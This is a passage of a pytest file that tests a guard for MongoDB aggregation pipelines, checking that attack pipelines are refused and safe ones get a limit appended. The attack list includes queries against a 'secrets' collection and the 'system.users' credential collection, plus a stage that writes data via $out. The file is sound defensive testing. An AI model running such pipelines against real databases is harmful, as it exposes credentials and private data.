    ("stage-with-two-operators", "orders", [{"$match": {}, "$out": "x"}], "exactly one operator"),
    ("collection-not-listed", "secrets", [{"$match": {}}], "secrets"),
    ("system-collection", "system.users", [{"$match": {}}], "system collection"),
    ("not-a-list", "orders", {"$match": {}}, "list of stages"),  # type: ignore[dict-item]
]


@pytest.mark.parametrize(
    ("collection", "pipeline", "fragment"),
    [pytest.param(c, p, f, id=name) for name, c, p, f in PIPELINE_ATTACKS],
)
def test_pipeline_attack_is_refused(collection: str, pipeline: list[dict], fragment: str) -> None:
    with pytest.raises(PipelineRefused) as refused:
        check_pipeline(collection, pipeline, collections=["orders", "customers"], limit=20, max_time_ms=5000)
    assert fragment.lower() in refused.value.reason.lower(), refused.value.reason
    assert (refused.value.status_code, refused.value.code) == (422, "pipeline_refused")


SAFE_PIPELINES: list[tuple[str, list[dict]]] = [
    ("empty", []),
    ("match-sort", [{"$match": {"status": "paid", "total": {"$gt": 10}}}, {"$sort": {"total": -1}}]),
    (
        "group-project",
        [
            {"$group": {"_id": "$country", "n": {"$sum": 1}}},
            {"$project": {"country": "$_id", "n": 1, "_id": 0}},
        ],
    ),
    (
        "lookup-allowed-unwind",
        [
            {"$lookup": {"from": "customers", "localField": "c", "foreignField": "_id", "as": "c"}},
            {"$unwind": "$c"},
        ],
    ),
    ("facet-count", [{"$facet": {"n": [{"$count": "n"}], "top": [{"$sortByCount": "$country"}]}}]),
    ("expr-without-javascript", [{"$match": {"$expr": {"$gt": ["$total", "$discount"]}}}, {"$limit": 1000}]),
    ("union-with-allowed", [{"$unionWith": {"coll": "customers", "pipeline": [{"$match": {}}]}}]),
]


@pytest.mark.parametrize("pipeline", [pytest.param(p, id=name) for name, p in SAFE_PIPELINES])
def test_safe_pipeline_passes_with_a_limit_appended(pipeline: list[dict]) -> None:
    guarded = check_pipeline(
        "orders", pipeline, collections=["orders", "customers"], limit=20, max_time_ms=5000
    )
    assert guarded.pipeline == [*pipeline, {"$limit": 20}]
    assert (guarded.collection, guarded.limit, guarded.max_time_ms) == ("orders", 20, 5000)


def test_pipeline_collections_none_skips_the_collection_check() -> None:
    guarded = check_pipeline(
        "anything", [{"$lookup": {"from": "other", "as": "o"}}], collections=None, limit=5, max_time_ms=100
    )
    assert guarded.pipeline[-1] == {"$limit": 5}
